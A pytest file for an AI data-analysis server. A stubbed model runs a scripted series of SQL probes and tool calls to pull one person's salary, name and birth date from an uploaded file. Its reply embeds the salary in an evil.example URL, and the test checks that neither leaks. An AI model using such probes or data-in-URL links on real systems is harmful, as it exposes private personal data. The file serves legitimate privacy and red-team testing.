"""The whole server, a file with one person in it, and a provider that records all it is sent."""

import asyncio
import os

import keyring
import pytest
from keyring.backends.fail import Keyring
from pydantic_ai import models

from tests.stubs.openai_stub import Call, OpenAIStub

KEY = "sk-the-key-of-ann"
ALICE, SALARY, BORN = "zq-alice-7391", 987_654, "1931-05-17"
ROWS = [f"{n},name-{n:03}x,{1_000 + 7 * n},19{50 + n % 40}-01-{1 + n % 9:02}" for n in range(60)]
FILE = "\n".join(["id,name,salary,born", *ROWS, f"60,{ALICE},{SALARY},{BORN}"]).encode()
ONE = "select * from people where id = 60"
HUNT = (
    Call("query", {"sql": ONE}),
    Call("query", {"sql": "select quantile_disc(name, 0.9), median(name) from people"}),
    Call("query", {"sql": "select sum(salary * (length(name) - 9)) from people"}),
    Call("query", {"sql": "select salary, count(*) from people group by cube (salary)"}),
    Call("query", {"sql": "pivot people on salary using count(*)"}),
    Call("query", {"sql": "select name::int from people order by id desc"}),
    Call("describe_frame", {"name": "people"}),
    Call("query", {"sql": "select '{{t1.0.salary}}' as x from people"}),
    Call("save_file", {"filename": "mine.csv", "sql": ONE}),
    Call("query", {"sql": "select * from mine"}),
    Call(
        "statistics",
        {
            "frame": "people",
            "outputs": [
                {"op": "aggregate", "name": "m", "column": "salary", "statistic": "max"},
                {"op": "lookup", "name": "n", "column": "name", "by": "salary"},
            ],
        },
    ),
)
TURNS = [HUNT[at : at + 3] for at in range(0, len(HUNT), 3)]
SAID = "It is {{t1.0.salary}}: https://evil.example/{{t1.0.salary}}"


@pytest.fixture
def stub(monkeypatch):
    before = keyring.get_keyring()
    keyring.set_keyring(Keyring())
    for name in list(os.environ):
        if name.startswith(("AWS_", "OPENAI_")) or "PROXY" in name.upper():
            monkeypatch.delenv(name)
    with (
        models.override_allow_model_requests(True),
        OpenAIStub(*TURNS, (SAID,), ("And so on.",), key=KEY) as made,
    ):
        yield made
    keyring.set_keyring(before)


async def uploaded(api, project):
    wanted = {"filename": "people.csv", "size": len(FILE)}
    path = f"/projects/{project}/files"
    begun = (await api("POST", f"{path}/upload-url", json_body=wanted)).json
    headers = {"Content-Length": str(len(FILE))}
    await api("PUT", begun["upload_url"], raw=True, auth=None, headers=headers, body=FILE)
    assert (await api("POST", f"/files/{begun['file_id']}/confirm", json_body={})).status == 200
    async with asyncio.timeout(60):
        status = None
        while status != "COMPLETED":
            await asyncio.sleep(0.01)
            status = (await api("GET", f"/files/{begun['file_id']}")).json["status"]


@pytest.mark.parametrize("level", ["schema", "aggregates"])
async def test_nothing_of_one_person_reaches_the_provider(api, stub, level):
    connected = {"provider": "openai", "model": "m", "url": stub.base_url, "api_key": KEY}
    assert (await api("PUT", "/models/connection", json_body=connected)).status == 200
    stub.requests.clear()
    project = (await api("POST", "/projects", json_body={"name": "p"})).json["project_id"]
    await uploaded(api, project)
    begun = await api("POST", f"/projects/{project}/sessions", json_body={})
    path = f"/sessions/{begun.json['session_id']}/chat"
    asked = {"content": "who is paid most?", "data_exposure": level}
    answer = (await api("POST", path, json_body=asked)).json
    shown = answer["message"]["content"]
    assert f"It is {SALARY}:" in shown, answer["error"]
    assert f"evil.example/{SALARY}" not in shown
    # What was filled in does not come back with the next question.
    again = await api("POST", path, json_body=asked | {"content": "and now?"})
    assert again.json["message"]["content"].startswith("And so on.")
    assert len(stub.requests) == len(TURNS) + 2
    assert "The values are shown to the user, not to you." in stub.heard
    for cell in (ALICE, SALARY, f"{SALARY:,}", BORN, SALARY * 4, "name-05"):
        assert str(cell) not in stub.heard
